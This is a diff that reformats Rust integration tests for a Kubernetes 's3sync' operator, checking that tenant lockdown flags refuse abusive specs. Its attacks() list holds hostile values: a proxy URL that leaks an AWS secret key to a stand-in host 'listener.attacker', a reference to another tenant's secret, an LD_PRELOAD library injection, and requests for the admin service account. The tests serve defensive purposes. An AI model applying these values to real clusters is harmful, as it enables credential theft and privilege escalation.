@@ -21,7 +21,8 @@ fn tenant(site: &Site) {
     api::apply(&format!("{group}/{}/rolebindings", site.namespace), &binding).expect("bound");
     until("the tenant's rights", || {
         let may = |verb: &str, what: &str| {
-            kubectl(&["auth", "can-i", verb, what, "--namespace", &site.namespace, "--as", TENANT]).stdout.trim() == "yes"
+            kubectl(&["auth", "can-i", verb, what, "--namespace", &site.namespace, "--as", TENANT]).stdout.trim()
+                == "yes"
         };
         if may("create", "s3syncs.s3sync.dev") && !may("get", "secrets") { Ok(()) } else { Err("not yet".to_owned()) }
     });
@@ -40,7 +41,8 @@ fn apply(site: &Site, sync: &Value, dry: bool) -> Result<(), String> {
 /// What a tenant may try, and the flag that keeps them from it.
 fn attacks() -> Vec<(&'static str, Value, &'static str)> {
     let variable = |variable: Value| json!({"worker": {"env": [variable]}});
-    let secret = json!({"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "other", "key": "AWS_SECRET_ACCESS_KEY"}}});
+    let secret =
+        json!({"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "other", "key": "AWS_SECRET_ACCESS_KEY"}}});
     vec![
         ("endpoint-of-source", json!({"source": {"endpoint": ELSEWHERE}}), "--allowed-endpoint"),
         ("endpoint-of-destination", json!({"destination": {"endpoint": ELSEWHERE}}), "--allowed-endpoint"),
@@ -54,19 +56,41 @@ fn attacks() -> Vec<(&'static str, Value, &'static str)> {
                 {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var/run/secrets/kubernetes.io/serviceaccount/token"}]}}),
             "--worker-env",
         ),
-        ("credentials-from-elsewhere", variable(json!({"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": ELSEWHERE})), "--worker-env"),
         (
-            "proxy",
-            variable(json!({"name": "HTTPS_PROXY", "value": "http://$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)@listener.attacker:3128"})),
+            "credentials-from-elsewhere",
+            variable(json!({"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": ELSEWHERE})),
             "--worker-env",
         ),
-        ("reference", variable(json!({"name": "PLAIN", "value": "$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)"})), "--worker-env"),
+        (
+            "proxy",
+            variable(
+                json!({"name": "HTTPS_PROXY", "value": "http://$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)@listener.attacker:3128"}),
+            ),
+            "--worker-env",
+        ),
+        (
+            "reference",
+            variable(json!({"name": "PLAIN", "value": "$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)"})),
+            "--worker-env",
+        ),
         ("another-secret", variable(secret), "--worker-env"),
         ("library", variable(json!({"name": "LD_PRELOAD", "value": "/scratch/x.so"})), "--worker-env"),
-        ("certificates", variable(json!({"name": "ssl_cert_file", "value": "/etc/s3sync/source-ca/ca.crt"})), "--worker-env"),
-        ("kubernetes", variable(json!({"name": "KUBERNETES_SERVICE_HOST", "value": "listener.attacker"})), "--worker-env"),
+        (
+            "certificates",
+            variable(json!({"name": "ssl_cert_file", "value": "/etc/s3sync/source-ca/ca.crt"})),
+            "--worker-env",
+        ),
+        (
+            "kubernetes",
+            variable(json!({"name": "KUBERNETES_SERVICE_HOST", "value": "listener.attacker"})),
+            "--worker-env",
+        ),
         ("account", json!({"worker": {"serviceAccountName": "admin"}}), "--allowed-service-account"),
-        ("injector", json!({"worker": {"podAnnotations": {"vault.hashicorp.com/agent-inject": "true"}}}), "--allowed-pod-annotation"),
+        (
+            "injector",
+            json!({"worker": {"podAnnotations": {"vault.hashicorp.com/agent-inject": "true"}}}),
+            "--allowed-pod-annotation",
+        ),
         ("identity", json!({"worker": {"podLabels": {"azure.workload.identity/use": "true"}}}), "--allowed-pod-label"),
         ("priority", json!({"worker": {"priorityClassName": "system-cluster-critical"}}), "--allowed-priority-class"),
         ("replicas", json!({"worker": {"replicas": 11}}), "--max-replicas"),
@@ -132,7 +156,8 @@ fn a_tenant_who_may_write_s3syncs_alone_reaches_nothing_more_under_lockdown() {
         let refusal = apply(&site, &site.sync(name, "orders/", spec), true).expect_err(name);
         assert!(refusal.contains("s3sync-tenancy") && refusal.contains(flag), "{name}: {refusal}");
     }
-    apply(&site, &site.sync("orders-2", "orders/", json!({"worker": {"env": [{"name": "TZ", "value": "UTC"}]}})), true).expect("allowed");
+    apply(&site, &site.sync("orders-2", "orders/", json!({"worker": {"env": [{"name": "TZ", "value": "UTC"}]}})), true)
+        .expect("allowed");
     release::install(&[]);
 
     // Without any rule: the controller's own account.
@@ -143,7 +168,9 @@ fn a_tenant_who_may_write_s3syncs_alone_reaches_nothing_more_under_lockdown() {
     until("a refusal", || {
         let sync = api::get(&path);
         let ready = condition(&sync, "Ready").unwrap_or_default();
-        if ready["reason"] == "NotAllowed" && ready["message"].as_str().is_some_and(|text| text.contains("the operator's own")) {
+        if ready["reason"] == "NotAllowed"
+            && ready["message"].as_str().is_some_and(|text| text.contains("the operator's own"))
+        {
             Ok(())
         } else {
             Err(sync["status"].to_string())
@@ -177,7 +204,16 @@ fn an_operator_of_some_namespaces_serves_each_and_leaves_the_others_alone() {
     }
     assert!(theirs.jobs("orders").is_empty());
     let controller = format!("system:serviceaccount:{}:{}", release::NAMESPACE, release::RELEASE);
-    let denied = kubectl(&["auth", "can-i", "list", "s3syncs.s3sync.dev", "--namespace", &theirs.namespace, "--as", &controller]);
+    let denied = kubectl(&[
+        "auth",
+        "can-i",
+        "list",
+        "s3syncs.s3sync.dev",
+        "--namespace",
+        &theirs.namespace,
+        "--as",
+        &controller,
+    ]);
     assert_eq!(denied.stdout.trim(), "no");
     release::install(&[]);
     theirs.succeeded("orders", 1);
